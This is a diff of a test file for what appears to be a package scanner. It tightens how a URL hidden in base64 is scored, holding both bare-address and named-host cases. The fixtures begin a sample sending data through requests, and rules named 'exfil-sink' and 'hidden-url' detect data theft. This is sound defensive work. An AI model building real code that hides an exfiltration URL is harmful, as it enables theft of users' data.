@@ -490,7 +490,9 @@ def test_a_request_catcher_only_named_is_a_sink_below_the_threshold() -> None:
     assert not held and rules["exfil-sink"] == 7
 
 
-def test_a_url_hidden_in_base64_that_is_a_bare_address_weighs_more() -> None:
+def test_a_url_hidden_in_base64_is_held_whether_a_bare_address_or_a_name() -> None:
+    # Rules 6 weighed a named one 6 and a bare address 8; rules 45 hold both (no legitimate
+    # file of the wider sample hides a URL it requests).
     hidden = (
         "import base64, requests\n"
         "def send(data):\n"
@@ -504,8 +506,8 @@ def test_a_url_hidden_in_base64_that_is_a_bare_address_weighs_more() -> None:
     named_rules, named_held = _report(
         wheel({"demo/__init__.py": named}), "demo-1.0-py3-none-any.whl"
     )
-    assert bare_rules["hidden-url"] == 8 and named_rules["hidden-url"] == 6
-    assert not named_held
+    assert bare_rules["hidden-url"] == 10 and named_rules["hidden-url"] == 10
+    assert named_held
 
 
 BOT = """\
